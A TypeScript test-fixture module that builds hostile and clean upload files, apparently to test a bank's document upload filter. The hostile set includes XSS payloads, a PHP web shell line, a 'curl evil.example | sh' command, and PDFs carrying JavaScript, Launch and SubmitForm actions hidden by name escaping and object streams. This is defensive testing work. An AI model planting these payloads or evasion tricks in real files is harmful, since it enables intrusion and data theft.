/**
 * Files that no bank should store: non-documents under a document's name, pictures and PDFs that are also something else, and PDFs that
 * do more than show pages, hidden in every way their syntax allows.
 */
import { deflateSync } from 'node:zlib';
import { type NamedFile, objectStream, pageObjects, pdfOf, picture } from '../files.ts';

const pages = [
  '<script>fetch("/api/clients")</script>',
  '<html><body onload=alert(1)>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<!DOCTYPE html><title>Sign in</title>',
  '<?php system($_GET["c"]); ?>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="evil.swf"></object>',
  '<ScRiPt src=//evil.example></sCrIpT>',
];

/** An archive without files: every reader looks only for the end record. */
const zip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);

const beginnings: ReadonlyArray<readonly [string, string]> = [
  ['zip', 'PK\x03\x04\x14\x00\x00\x00'],
  ['exe', 'MZ\x90\x00\x03\x00\x00\x00'],
  ['elf', '\x7fELF\x02\x01\x01\x00'],
  ['mach-o', '\xcf\xfa\xed\xfe\x07\x00'],
  ['office', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
  ['rar', 'Rar!\x1a\x07\x01\x00'],
  ['7z', "7z\xbc\xaf'\x1c"],
  ['gzip', '\x1f\x8b\x08\x00'],
  ['gif', 'GIF89a\x01\x00\x01\x00'],
  ['webp', 'RIFF\x24\x00\x00\x00WEBPVP8 '],
  ['tiff', 'II*\x00\x08\x00\x00\x00'],
  ['bmp', 'BM\x36\x00\x00\x00'],
  ['heic', '\x00\x00\x00\x18ftypheic'],
  ['java', '\xca\xfe\xba\xbe\x00\x00\x00\x34'],
  ['wasm', '\x00asm\x01\x00\x00\x00'],
  ['postscript', '%!PS-Adobe-3.0\n(x) run'],
  ['rtf', '{\\rtf1\\object\\objdata 0105}'],
  ['shortcut', 'L\x00\x00\x00\x01\x14\x02\x00'],
  ['shell script', '#!/bin/sh\ncurl evil.example | sh\n'],
  ['script', 'alert(document.cookie)//'],
  ['xml', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'],
  ['json', '{"FileBody":"x"}'],
  ['mail', 'From: bank@evil.example\r\nSubject: pay\r\n\r\n'],
  ['text', 'just text'],
];

/** Disguised by its name only. */
const disguised = (): NamedFile[] =>
  [...beginnings, ...pages.map((page) => ['page', page] as const)].flatMap(([kind, text]) =>
    ['bill.pdf', 'bill.png', 'bill.jpg'].map((name) => ({
      name: `${kind} as ${name}`,
      bytes: Buffer.from(`${text}${' '.repeat(64)}`, 'latin1'),
    })),
  );

/** A picture that a browser or an unpacker would read as something else. */
async function twoFaced(): Promise<NamedFile[]> {
  const pictures = [
    ['png', await picture('png')],
    ['jpeg', await picture('jpeg')],
  ] as const;
  return pictures.flatMap(([format, bytes]) => [
    ...pages.map((page) => ({
      name: `${format} with a page behind it`,
      bytes: Buffer.concat([bytes, Buffer.from(page)]),
    })),
    { name: `${format} with an archive behind it`, bytes: Buffer.concat([bytes, zip]) },
    ...(format === 'jpeg'
      ? pages.map((page) => ({ name: 'jpeg with a page in its comment', bytes: withComment(bytes, page) }))
      : []),
    { name: `${format} that is cut off`, bytes: bytes.subarray(0, 60) },
    {
      name: `${format} that only begins as one`,
      bytes: Buffer.concat([bytes.subarray(0, 12), Buffer.alloc(500, 7)]),
    },
  ]);
}

/** A comment segment (ITU-T T.81, B.2.4.5) right after the start of the image. */
function withComment(jpeg: Buffer, comment: string): Buffer {
  const text = Buffer.from(comment);
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, text, jpeg.subarray(2)]);
}

const brokenPdfs = (): NamedFile[] => {
  const whole = pdfOf(pageObjects());
  return [
    ...pages.map((page) => ({
      name: 'a page that begins as a PDF',
      bytes: Buffer.from(`%PDF-1.7\n${page}`),
    })),
    ...pages.map((page) => ({
      name: 'pdf with a page behind it',
      bytes: Buffer.concat([whole, Buffer.from(page)]),
    })),
    ...pages.map((page) => ({
      name: 'pdf with a page between its objects',
      bytes: pdfOf([...pageObjects(), `(${page})`]),
    })),
    { name: 'pdf with an archive behind it', bytes: Buffer.concat([whole, zip]) },
    { name: 'pdf with an archive inside', bytes: pdfOf([...pageObjects(), zip.toString('latin1')]) },
    { name: 'pdf after something else', bytes: Buffer.concat([Buffer.from('GIF89a'), whole]) },
    { name: 'pdf that is cut off', bytes: whole.subarray(0, 300) },
    { name: 'protected pdf', bytes: pdfOf(pageObjects(), { trailer: '/Encrypt 5 0 R' }) },
    { name: 'pdf without a root', bytes: pdfOf(['<< /Type /Nothing >>']).subarray(0, 90) },
  ];
};

/** Content that a viewer would run, fetch or unpack. */
const actions: ReadonlyArray<readonly [name: string, action: string]> = [
  ['JavaScript', '<< /S /JavaScript /JS (app.alert(1)) >>'],
  ['JS alone', '<< /JS (app.alert(1)) >>'],
  ['Launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['EmbeddedFile', '<< /Type /EmbeddedFile /Params << /Size 1 >> >>'],
  ['EmbeddedFiles', '<< /EmbeddedFiles << /Names [] >> >>'],
  ['AA', '<< /AA << /O 5 0 R >> >>'],
  ['RichMedia', '<< /Subtype /RichMedia >>'],
  ['XFA', '<< /XFA [(template) 5 0 R] >>'],
  ['SubmitForm', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ['ImportData', '<< /S /ImportData /F (x.fdf) >>'],
  ['GoToR', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
  ['GoToE', '<< /S /GoToE /T << /R /C >> >>'],
  ['Rendition', '<< /S /Rendition /OP 0 >>'],
  ['OpenAction in place', '<< /OpenAction << /S /URI /URI (https://evil.example) >> >>'],
  ['OpenAction to nothing', '<< /OpenAction 99 0 R >>'],
  ['OpenAction as a name', '<< /OpenAction /Print >>'],
];

/** `/JS` as `/#4a#53`. */
const escaped = (object: string) =>
  object.replaceAll(
    /\/([A-Za-z]+)/g,
    (_, name: string) => `/${Array.from(name, (letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')}`,
  );

const activePdfs = (): NamedFile[] =>
  actions.flatMap(([name, action]) => {
    const objects = pageObjects();
    const packed = deflateSync(Buffer.from(`6 0 ${action}`));
    return [
      ['in an object', pdfOf([...objects, action])],
      ['escaped', pdfOf([...objects, escaped(action)])],
      ['in the catalogue', pdfOf(pageObjects({ catalog: `/Extra ${action}` }))],
      ['in the page', pdfOf(pageObjects({ page: `/Extra ${escaped(action)}` }))],
      ['in an object stream', pdfOf([...objects, objectStream(6, action)])],
      ['in an object stream, escaped', pdfOf([...objects, objectStream(6, escaped(action))])],
      ['in an object stream, not packed', pdfOf([...objects, objectStream(6, action, { packed: false })])],
      [
        'in an object stream of another filter',
        pdfOf([...objects, objectStream(6, action, { filter: '/LZWDecode' })]),
      ],
      [
        'in an object stream that denies it',
        pdfOf([
          ...objects,
          `<< /#54ype /#4fbj#53tm /N 1 /Fir#73t 4 /Filter /Fl#61teDecode /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`,
        ]),
      ],
      [
        'in the bytes of a stream that the table points into',
        pdfOf([...objects, `<< /Length 99 >>\nstream\n6 0 obj\n${action}\nendobj\nendstream`]),
      ],
      [
        'in the bytes of a stream, behind a comment',
        pdfOf([...objects, `<< /Length 99 >>\nstream\n6 0 % x\nobj\n${action}\nendobj\nendstream`]),
      ],
      [
        'after a false end of a stream',
        pdfOf([...objects, `<< /Length 99 >>\nstream\nendstream ${action}\nendstream`]),
      ],
    ].map(([where, bytes]) => ({ name: `pdf with ${name} ${String(where)}`, bytes: bytes as Buffer }));
  });

/** All of them: more than three hundred. */
export async function hostileFiles(): Promise<NamedFile[]> {
  return [...disguised(), ...(await twoFaced()), ...brokenPdfs(), ...activePdfs()];
}

/** Typical uploads: pictures of several sizes and PDFs of several writers. */
export async function cleanFiles(): Promise<NamedFile[]> {
  const seeds = Array.from({ length: 12 }, (_, seed) => seed);
  const pictures = await Promise.all(
    seeds.flatMap((seed) =>
      (['png', 'jpeg'] as const).map(async (format) => ({
        name: `${format} ${seed}`,
        bytes: await picture(format, { width: 20 + seed * 30, height: 200, seed }),
      })),
    ),
  );
  const goTo = '<< /S /GoTo /D [3 0 R /Fit] >>';
  const pdfs = [
    ['plain', pdfOf(pageObjects())],
    ['ending without a line break', pdfOf(pageObjects()).subarray(0, -1)],
    ['ending with several', pdfOf(pageObjects(), { tail: '\r\n\r\n\0' })],
    [
      'of an office writer, opening at its first page',
      pdfOf(pageObjects({ catalog: '/OpenAction [3 0 R /XYZ null null 0]' })),
    ],
    [
      'of TeX, opening by an action in an object',
      pdfOf([...pageObjects({ catalog: '/OpenAction 6 0 R' }), goTo]),
    ],
    ['opening by an action in place', pdfOf(pageObjects({ catalog: `/OpenAction ${goTo}` }))],
    [
      'with links',
      pdfOf(
        pageObjects({ page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://power.example) >> >>]' }),
      ),
    ],
    ['with an object stream', pdfOf([...pageObjects(), objectStream(7, '<< /Title (Bill) >>')])],
    [
      'with an object stream that is not packed',
      pdfOf([...pageObjects(), objectStream(7, '<< /A 1 >>', { packed: false })]),
    ],
    [
      'opening by an action in an object stream',
      pdfOf([...pageObjects({ catalog: '/OpenAction 7 0 R' }), objectStream(7, goTo)]),
    ],
    ['with a form to fill in', pdfOf([...pageObjects({ catalog: '/AcroForm << /Fields [] >>' })])],
    [
      'with a name that begins like an active one',
      pdfOf(pageObjects({ catalog: '/JSON 1 /AAA 2 /Launcher 3' })),
    ],
    [
      'with metadata',
      pdfOf([...pageObjects(), '<< /Type /Metadata /Length 21 >>\nstream\n<?xpacket begin="" ?>\nendstream']),
    ],
    [
      'written in two goes',
      pdfOf(pageObjects(), { tail: pdfOf(pageObjects()).subarray(9).toString('latin1') }),
    ],
    [
      'of version 2',
      Buffer.from(pdfOf(pageObjects()).toString('latin1').replace('%PDF-1.7', '%PDF-2.0'), 'latin1'),
    ],
    [
      'with a picture',
      pdfOf([
        ...pageObjects(),
        '<< /Subtype /Image /Width 2 /Height 2 /Length 12 >>\nstream\n/JS /AA \x01\x02\x03\x04\nendstream',
      ]),
    ],
  ] as const;
  return [...pictures, ...pdfs.map(([name, bytes]) => ({ name: `pdf ${name}`, bytes }))];
}
